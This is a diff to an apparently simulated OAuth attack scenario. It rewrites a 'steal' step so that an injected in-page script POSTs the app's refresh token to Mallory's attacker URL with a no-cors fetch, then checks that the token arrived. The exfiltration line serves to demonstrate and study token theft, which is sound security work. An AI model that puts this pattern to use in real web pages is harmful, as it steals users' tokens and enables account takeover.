@@ -89,8 +89,14 @@ def steal(run):
     in OAuth can stop a script that runs with the app's own privileges; what
     matters now is how much the stolen token is worth.
     """
-    run.browser.http.post(
-        f"{run.attacker.url}/steal", data={"refresh_token": run.app_refresh_token}
+    # The injected script runs in the app's page: a no-cors fetch() needs no
+    # permission from Mallory's site, and the answer is none of its business.
+    run.browser.fetch(
+        f"{run.attacker.url}/steal",
+        method="POST",
+        data={"refresh_token": run.app_refresh_token},
+        mode="no-cors",
+        origin=run.client_url,
     )
     run.check(
         "Mallory's site received the app's refresh token",
